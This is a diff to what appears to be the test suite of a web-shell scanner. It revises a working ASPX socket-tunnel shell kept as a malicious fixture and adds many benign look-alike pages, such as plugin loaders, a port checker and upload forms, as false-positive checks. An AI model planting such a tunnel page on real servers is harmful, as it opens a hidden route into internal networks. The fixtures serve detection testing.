@@ -153,18 +153,24 @@ void Page_Load(object o, EventArgs e) {
 }
 </script>
 `],
-  ["a tunnel whose data comes as a form field's Base64 (S28R-21)", 'mamori_aspx_request_socket_tunnel', '/www/r21.aspx', `<%@ Page Language="C#" %>
+  // (a socket kept between requests in Session: one probe sent from a form field and its answer shown is a
+  // port checker's shape, red team S29R-9, and not flagged)
+  ['a tunnel whose data comes as a form field\'s Base64, its socket kept in Session (S28R-21)', 'mamori_aspx_request_socket_tunnel', '/www/r21.aspx', `<%@ Page Language="C#" %>
 <%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
 <script runat="server">
 void Page_Load(object o, EventArgs e) {
-  var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
-  s.Connect(new IPEndPoint(IPAddress.Parse(Request.Form["h"]), int.Parse(Request.Form["p"])));
-  s.Send(Convert.FromBase64String(Request.Form["data"]));
-  byte[] b = new byte[8192]; int n = s.Receive(b);
+  if (Request.Form["cmd"] == "open") {
+    var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
+    s.Connect(new IPEndPoint(IPAddress.Parse(Request.Form["h"]), int.Parse(Request.Form["p"])));
+    Session["t"] = s;
+    return;
+  }
+  var t = (Socket)Session["t"];
+  t.Send(Convert.FromBase64String(Request.Form["data"]));
+  byte[] b = new byte[8192]; int n = t.Receive(b);
   Response.Write(Convert.ToBase64String(b, 0, n));
 }
-</script>
-`],
+</script>`],
   ['a tunnel writing with Response.Output.Write (S28R-22)', 'mamori_aspx_request_socket_tunnel', '/www/r22.aspx', `<%@ Page Language="C#" %>
 <%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
 <script runat="server">
@@ -373,6 +379,397 @@ void Page_Load(object o, EventArgs e) {
   Response.Write("<machineKey validationKey=\\"" + Hex(64) + "\\" decryptionKey=\\"" + Hex(32) + "\\" validation=\\"HMACSHA256\\" decryption=\\"AES\\" />");
 }
 </script>`],
+  ['S29R-1: a plugin version page, Assembly.Load of a checked name from the query string', '/www/admin/plugin.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Reflection" %>
+<script runat="server">
+// Admin: shows the version of an installed plugin assembly chosen from the list
+protected void Page_Load(object sender, EventArgs e) {
+    string name = Request.QueryString["plugin"] ?? "Contoso.Reports";
+    if (!System.Text.RegularExpressions.Regex.IsMatch(name, "^[A-Za-z.]{1,60}$")) { lbl.Text = "bad name"; return; }
+    try {
+        Assembly asm = Assembly.Load(name);
+        lbl.Text = Server.HtmlEncode(asm.GetName().Version.ToString());
+    } catch (Exception ex) { lbl.Text = Server.HtmlEncode(ex.Message); }
+}
+</script>
+<html><body><h1>Plugin version</h1><asp:Label ID="lbl" runat="server" /></body></html>
+`],
+  ['S29R-2: a diagnostics page loading System.Web by name and showing the user agent', '/www/diag.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+// Diagnostics: framework versions and the client's headers, for support tickets
+protected void Page_Load(object sender, EventArgs e) {
+    var web = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");
+    ver.Text = web.GetName().Version.ToString();
+    ua.Text = Server.HtmlEncode(Request.Headers["User-Agent"]);
+}
+</script>
+<html><body><p>System.Web <asp:Literal ID="ver" runat="server" /></p><p>UA <asp:Literal ID="ua" runat="server" /></p></body></html>
+`],
+  ['S29R-7: a Global.asax resolving plugins, logging errors with the referrer, loading resources by name', '/www/Global.asax', `<%@ Application Language="C#" %>
+<%@ Import Namespace="System.Reflection" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+    void Application_Start(object sender, EventArgs e)
+    {
+        // plugins in ~/bin/plugins are resolved by name when the pages ask for them
+        AppDomain.CurrentDomain.AssemblyResolve += (s, args) =>
+        {
+            string file = Path.Combine(HttpRuntime.AppDomainAppPath, "bin", "plugins", new AssemblyName(args.Name).Name + ".dll");
+            return File.Exists(file) ? Assembly.LoadFrom(file) : null;
+        };
+    }
+
+    void Application_Error(object sender, EventArgs e)
+    {
+        var ex = Server.GetLastError();
+        File.AppendAllText(Server.MapPath("~/App_Data/errors.log"), DateTime.Now + " " + Request.Url + " " + Request["HTTP_REFERER"] + " " + ex + Environment.NewLine);
+    }
+
+    void Session_Start(object sender, EventArgs e)
+    {
+        Session["theme"] = Request.Cookies["theme"] != null ? Request.Cookies["theme"].Value : "light";
+        Session["culture"] = Assembly.Load("App_GlobalResources").GetName().CultureInfo.Name;
+    }
+</script>
+`],
+  ['S29R-8: an App_Code Basic-auth module with a pluggable store and a syslog audit over TCP', '/www/App_Code/Modules/BasicAuthModule.cs', `using System;
+using System.Configuration;
+using System.Net.Sockets;
+using System.Reflection;
+using System.Security.Cryptography;
+using System.Text;
+using System.Web;
+
+/// <summary>HTTP Basic authentication for the /api folder, with each login audited to the syslog server.</summary>
+public class BasicAuthModule : IHttpModule
+{
+    ICredentialStore _store;
+
+    public void Init(HttpApplication app)
+    {
+        // the credential store is pluggable: <add key="credentialStore" value="Contoso.Auth, Contoso.Auth.LdapStore" />
+        var parts = ConfigurationManager.AppSettings["credentialStore"].Split(',');
+        _store = (ICredentialStore)Assembly.Load(parts[0].Trim()).CreateInstance(parts[1].Trim());
+        app.AuthenticateRequest += OnAuthenticate;
+    }
+
+    void OnAuthenticate(object sender, EventArgs e)
+    {
+        var app = (HttpApplication)sender;
+        if (!app.Request.Path.StartsWith("/api", StringComparison.OrdinalIgnoreCase)) return;
+        string header = app.Request.Headers["Authorization"];
+        if (header != null && header.StartsWith("Basic "))
+        {
+            string pair = Encoding.UTF8.GetString(Convert.FromBase64String(app.Context.Request.Headers["Authorization"].Substring(6)));
+            int colon = pair.IndexOf(':');
+            if (colon > 0 && _store.Check(pair.Substring(0, colon), pair.Substring(colon + 1)))
+            {
+                Audit("login ok " + pair.Substring(0, colon));
+                return;
+            }
+        }
+        var nonce = new byte[16];
+        using (var rng = RandomNumberGenerator.Create()) rng.GetBytes(nonce);
+        app.Response.StatusCode = 401;
+        app.Response.AddHeader("WWW-Authenticate", "Basic realm=\\"api\\"");
+        app.Response.AddHeader("X-Request-Id", Convert.ToBase64String(nonce));
+        app.Response.Write("Authentication required");
+        app.CompleteRequest();
+    }
+
+    static void Audit(string line)
+    {
+        using (var client = new TcpClient())
+        {
+            client.Connect(ConfigurationManager.AppSettings["syslogHost"], 514);
+            var bytes = Encoding.UTF8.GetBytes("<38>" + DateTime.UtcNow.ToString("s") + " web " + line + "\\n");
+            client.GetStream().Write(bytes, 0, bytes.Length);
+        }
+    }
+
+    public void Dispose() { }
+}
+`],
+  ['S29R-6: an App_Code plugin manager hashing its plugins and loading them by name', '/www/App_Code/PluginManager.cs', `using System;
+using System.Collections.Generic;
+using System.IO;
+using System.Linq;
+using System.Reflection;
+using System.Security.Cryptography;
+using System.Web;
+
+/// <summary>Loads the site's plugins from ~/bin/plugins and checks them against the signed manifest.</summary>
+public class PluginManager
+{
+    readonly List<IPlugin> _plugins = new List<IPlugin>();
+
+    public void LoadAll()
+    {
+        var dom = AppDomain.CurrentDomain;
+        string dir = HttpContext.Current.Server.MapPath("~/bin/plugins");
+        foreach (var path in Directory.GetFiles(dir, "*.dll"))
+        {
+            byte[] hash;
+            using (var sha = SHA256.Create()) hash = sha.ComputeHash(File.ReadAllBytes(path));
+            if (!Manifest.IsTrusted(Path.GetFileName(path), hash)) continue;
+            var name = AssemblyName.GetAssemblyName(path);
+            foreach (var t in dom.Load(name).GetTypes().Where(t => typeof(IPlugin).IsAssignableFrom(t) && !t.IsAbstract))
+                _plugins.Add((IPlugin)Activator.CreateInstance(t));
+        }
+    }
+
+    public IPlugin Find(HttpRequest request)
+    {
+        string id = request["plugin"];
+        return _plugins.FirstOrDefault(p => p.Id == id);
+    }
+}
+`],
+  ['S29R-11: an App_Code helper saving a signature picture and loading a reporting library from bin', '/www/App_Code/SiteUtil.cs', `using System;
+using System.IO;
+using System.Reflection;
+using System.Web;
+
+/// <summary>Odds and ends used by several pages.</summary>
+public static class SiteUtil
+{
+    /// <summary>The signature pad posts a PNG as Base64; store it beside the order.</summary>
+    public static void SaveSignature(int orderId)
+    {
+        string path = HttpContext.Current.Server.MapPath("~/App_Data/signatures/" + orderId + ".png");
+        File.WriteAllBytes(path, Convert.FromBase64String(HttpContext.Current.Request.Form["signature"]));
+    }
+
+    /// <summary>The reporting engine ships as a separate assembly, loaded on first use.</summary>
+    public static object CreateReportEngine()
+    {
+        var asm = Assembly.LoadFrom(HttpContext.Current.Server.MapPath("~/bin/reporting/Contoso.Reporting.dll"));
+        return asm.CreateInstance("Contoso.Reporting.Engine");
+    }
+
+    public static string Version => typeof(SiteUtil).Assembly.GetName().Version.ToString();
+}
+`],
+  ['S29R-10: an App_Code helper reading whois and feeding nslookup', '/www/App_Code/Helpers/DnsTools.cs', `using System;
+using System.Diagnostics;
+using System.IO;
+using System.Net.Sockets;
+using System.Text;
+
+/// <summary>Network tools for the admin's "Domain check" page: whois and MX lookups.</summary>
+public static class DnsTools
+{
+    public static string Whois(string domain)
+    {
+        using (var client = new TcpClient("whois.iana.org", 43))
+        using (var stream = client.GetStream())
+        {
+            var q = Encoding.ASCII.GetBytes(domain + "\\r\\n");
+            stream.Write(q, 0, q.Length);
+            return new StreamReader(stream, Encoding.ASCII).ReadToEnd();
+        }
+    }
+
+    public static string MxRecords(string domain)
+    {
+        var psi = new ProcessStartInfo("nslookup.exe", "-")
+        {
+            UseShellExecute = false,
+            RedirectStandardInput = true,
+            RedirectStandardOutput = true,
+            CreateNoWindow = true
+        };
+        using (var p = Process.Start(psi))
+        {
+            p.StandardInput.WriteLine("set type=MX");
+            p.StandardInput.WriteLine(domain);
+            p.StandardInput.WriteLine("exit");
+            string output = p.StandardOutput.ReadToEnd();
+            p.WaitForExit(5000);
+            return output;
+        }
+    }
+}
+`],
+  ['S29R-9: a port checker sending an optional Base64 probe and showing the answer in hex', '/www/admin/portcheck.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+    // Admin network tools: TCP port check. Optionally sends a probe (Base64, for binary protocols)
+    // and shows the first bytes the service answers, in hex.
+    protected void Check_Click(object sender, EventArgs e)
+    {
+        if (!User.IsInRole("Admins")) { Response.StatusCode = 403; return; }
+        using (var client = new TcpClient())
+        {
+            var ar = client.BeginConnect(Host.Text, int.Parse(Port.Text), null, null);
+            if (!ar.AsyncWaitHandle.WaitOne(3000)) { Response.Output.Write("timeout"); return; }
+            client.EndConnect(ar);
+            var ns = client.GetStream();
+            ns.ReadTimeout = 3000;
+            if (!string.IsNullOrEmpty(Request.Form["probe"]))
+            {
+                var probe = Convert.FromBase64String(Request.Form["probe"]);
+                ns.Write(probe, 0, probe.Length);
+            }
+            var buf = new byte[64];
+            int n = 0;
+            try { n = ns.Read(buf, 0, buf.Length); } catch (System.IO.IOException) { }
+            Response.Output.Write("open; answer: {0}", Server.HtmlEncode(BitConverter.ToString(buf, 0, n)));
+        }
+    }
+</script>
+<form runat="server">Host <asp:TextBox ID="Host" runat="server" /> Port <asp:TextBox ID="Port" runat="server" />
+Probe (Base64) <input name="probe" /> <asp:Button runat="server" Text="Check" OnClick="Check_Click" /></form>
+`],
+  ['S29R-15: a ticket upload page refusing .jsp names', '/www/tickets/upload.jsp', `<%@ page contentType="text/html; charset=UTF-8" import="java.nio.file.*,javax.servlet.http.Part" %>
+<%
+  // Attachment upload for support tickets: server pages and scripts are refused, names are made safe.
+  String msg = "";
+  if ("POST".equals(request.getMethod())) {
+    Part part = request.getPart("file");
+    String fn = Paths.get(part.getSubmittedFileName()).getFileName().toString().replaceAll("[^A-Za-z0-9._-]", "_");
+    String dir = application.getInitParameter("ticketDir");
+    String lower = fn.toLowerCase();
+    if (Files.exists(Paths.get(dir, fn)) || lower.endsWith(".jsp") || lower.endsWith(".jspx")) {
+      msg = "That file name is not allowed.";
+    } else if (part.getSize() > 5 * 1024 * 1024) {
+      msg = "Too large.";
+    } else {
+      Files.copy(part.getInputStream(), Paths.get(dir, fn));
+      msg = "Saved " + fn;
+    }
+  }
+%>
+<html><body>
+<form method="post" enctype="multipart/form-data"><input type="file" name="file"><button>Upload</button></form>
+<p><%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(msg) %></p>
+</body></html>
+`],
+  ['S29R-16: a feedback page showing the age of index.jsp and appending to a CSV', '/www/feedback.jsp', `<%@ page import="java.io.*,java.util.Date" %>
+<%
+  // Feedback form: appended to a CSV under WEB-INF; shows when the home page last changed.
+  File home = new File(application.getRealPath("/"), "index.jsp");
+  if (request.getParameter("comment") != null) {
+    try (PrintWriter w = new PrintWriter(new FileWriter(application.getRealPath("/WEB-INF/feedback.csv"), true))) {
+      w.print(new Date() + ",");
+      w.println(request.getParameter("comment").replace(",", " ").replace("\\n", " "));
+    }
+  }
+%>
+<html><body>
+<p>Site last updated <%= new Date(home.lastModified()) %></p>
+<form method="post"><textarea name="comment"></textarea><button>Send</button></form>
+</body></html>
+`],
+  ['S29R-17: a CMS page publishing a cleaned slug as .html', '/www/admin/publish.jsp', `<%@ page import="java.io.*" %>
+<%
+  // CMS: publish a static page. The slug is reduced to [a-z0-9-], the page is written as .html.
+  if (request.getParameter("slug") != null) {
+    String path = application.getRealPath("/pages/") + File.separator + request.getParameter("slug").toLowerCase().replaceAll("[^a-z0-9-]", "") + ".html";
+    try (Writer w = new OutputStreamWriter(new FileOutputStream(path), "UTF-8")) {
+      w.write("<!doctype html><meta charset=utf-8><title>" + request.getParameter("title").replace("<", "&lt;") + "</title>\\n");
+      w.write(request.getParameter("body"));
+    }
+    response.sendRedirect("pages/");
+  }
+%>
+`],
+  ['S29R-18: an admin page editing the .properties bundle of a language', '/www/admin/i18n.jsp', `<%@ page import="java.io.*" %>
+<%
+  // Admin: edit one language's message bundle
+  String lang = request.getParameter("lang");
+  if (lang != null && lang.matches("[a-z]{2}") && request.getParameter("content") != null) {
+    String file = application.getRealPath("/WEB-INF/classes") + "/messages_" + request.getParameter("lang") + ".properties";
+    try (PrintWriter pw = new PrintWriter(new OutputStreamWriter(new FileOutputStream(file), "ISO-8859-1"))) {
+      pw.print(request.getParameter("content"));
+    }
+  }
+%>
+<form method="post"><input name="lang"><textarea name="content"></textarea><button>Save</button></form>
+`],
+  ['S29R-14: a validated 3.6 KB upload page (whitelist, size limit, GUID name)', '/www/hr/upload.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+    // Document upload for the HR portal: PDFs and Office files only, 10 MB, stored under a new name.
+    static readonly string[] Allowed = { ".pdf", ".docx", ".xlsx", ".pptx" };
+    const int MaxBytes = 10 * 1024 * 1024;
+
+    protected void Upload_Click(object sender, EventArgs e)
+    {
+        if (!FileUpload1.HasFile) { Msg.Text = "Choose a file first."; return; }
+        string ext = Path.GetExtension(FileUpload1.FileName).ToLowerInvariant();
+        if (Array.IndexOf(Allowed, ext) < 0) { Msg.Text = "Only PDF and Office documents are accepted."; return; }
+        if (FileUpload1.PostedFile.ContentLength > MaxBytes) { Msg.Text = "The file is larger than 10 MB."; return; }
+        string stored = Guid.NewGuid().ToString("N") + ext;
+        FileUpload1.SaveAs(Server.MapPath("~/App_Data/hr-docs/") + stored);
+        Log(stored, FileUpload1.FileName);
+        Msg.Text = "Thank you, your document was received.";
+    }
+
+    void Log(string stored, string original)
+    {
+        File.AppendAllText(Server.MapPath("~/App_Data/hr-docs/index.csv"),
+            DateTime.UtcNow.ToString("o") + "," + stored + "," + original.Replace(",", " ") + "," + User.Identity.Name + Environment.NewLine);
+    }
+</script>
+<!DOCTYPE html>
+<html>
+<head runat="server">
+    <title>Upload a document</title>
+    <link rel="stylesheet" href="~/css/portal.css" />
+</head>
+<body>
+    <form id="form1" runat="server">
+        <div class="panel">
+            <h1>Upload a document</h1>
+            <p>Send us your signed contract, your ID scan or other documents requested by HR.
+               Accepted formats: PDF, Word, Excel, PowerPoint. Maximum size 10 MB.</p>
+            <asp:FileUpload ID="FileUpload1" runat="server" />
+            <asp:Button ID="Upload" runat="server" Text="Upload" OnClick="Upload_Click" />
+            <p><asp:Label ID="Msg" runat="server" /></p>
+        </div>
+        <ol class="help">
+            <li>Step 1: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 2: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 3: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 4: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 5: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 6: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 7: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 8: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+            <li>Step 9: read the instructions for this kind of document, scan it at 300 dpi, and check that every page is legible before you send it.</li>
+        </ol>
+        <div class="footer">
+            <p>Documents are kept for the period required by law and then deleted.
+               Questions? Write to hr@example.com.</p>
+        </div>
+    </form>
+</body>
+</html>
+`],
+  ['S29R-12: an App_Code upload helper with a whitelist and a GUID name', '/www/App_Code/UploadHelper.cs', `using System;
+using System.IO;
+using System.Web;
+
+/// <summary>Saves images posted by the gallery pages: extension whitelist, size limit, random name.</summary>
+public static class UploadHelper
+{
+    static readonly string[] Allowed = { ".jpg", ".jpeg", ".png", ".gif" };
+    const int MaxBytes = 4 * 1024 * 1024;
+
+    public static string SaveImage(HttpPostedFile file)
+    {
+        if (file == null || file.ContentLength == 0) throw new ArgumentException("no file");
+        if (file.ContentLength > MaxBytes) throw new ArgumentException("file too large");
+        string ext = Path.GetExtension(file.FileName).ToLowerInvariant();
+        if (Array.IndexOf(Allowed, ext) < 0) throw new ArgumentException("only images may be uploaded");
+        if (!file.ContentType.StartsWith("image/")) throw new ArgumentException("not an image");
+        string name = Guid.NewGuid().ToString("N") + ext;
+        file.SaveAs(HttpContext.Current.Server.MapPath("~/uploads/gallery/") + name);
+        return name;
+    }
+}
+`],
 ];
 
 describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
@@ -419,6 +816,6 @@ describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
   it('ran every case', () => {
     assert.equal(MALICIOUS.length, 26);
     assert.equal(UPLOADERS.length, 2);
-    assert.equal(BENIGN.length, 9);
+    assert.equal(BENIGN.length, 23);
   });
 });
